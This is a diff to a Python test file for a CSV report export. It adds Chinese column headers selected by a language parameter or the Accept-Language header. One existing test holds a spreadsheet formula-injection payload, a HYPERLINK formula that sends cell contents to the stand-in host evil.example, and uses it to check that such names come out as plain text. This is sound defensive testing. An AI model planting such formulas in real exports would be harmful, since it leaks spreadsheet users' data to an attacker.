@@ -17,6 +17,7 @@ from sqlalchemy import select, update
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
 from broker.directory import repository as directory_repository
+from broker.reports.schemas import CSV_HEADERS_ZH
 from broker.requests.sla import escalate_step
 from core.models.grants import Grant
 from core.models.requests import Decision, RequestStep
@@ -319,9 +320,19 @@ async def test_the_csv_export_has_the_json_rows(
         assert response.headers["content-disposition"].startswith("attachment; filename=")
         assert response.content.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
         header, *lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-        assert header == list(as_json["rows"][0])
+        # the bureaus read Chinese headers (GLOSSARY.md's words), in the columns' order
+        assert header == [CSV_HEADERS_ZH[c] for c in as_json["rows"][0]]
         assert lines == [[_as_text(v) for v in row.values()] for row in as_json["rows"]]
         assert any(line[0] == body.id and line[4] == "陈评价" for line in lines)
+    english = await client.get(URL, headers=reader, params=params | {"format": "csv", "lang": "en"})
+    header = next(csv.reader(io.StringIO(english.content.decode("utf-8-sig"))))
+    assert header == list(as_json["rows"][0])
+    by_language = await client.get(
+        URL,
+        headers=reader | {"Accept-Language": "en-GB, zh;q=0.5"},
+        params=params | {"format": "csv"},
+    )
+    assert by_language.content == english.content
 
 
 def _as_text(value: object) -> str:
@@ -338,7 +349,7 @@ async def test_a_name_that_is_a_formula_is_a_text_cell_in_the_csv(
     start = datetime.now(UTC)
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'
     body = await new_body(client, admin, token_for, person=formula)
-    params = {"from": start.isoformat(), "to": _soon().isoformat(), "format": "csv"}
+    params = {"from": start.isoformat(), "to": _soon().isoformat(), "format": "csv", "lang": "en"}
     response = await client.get(URL, headers=reader, params=params)
     assert response.status_code == 200, response.text
     header, *lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
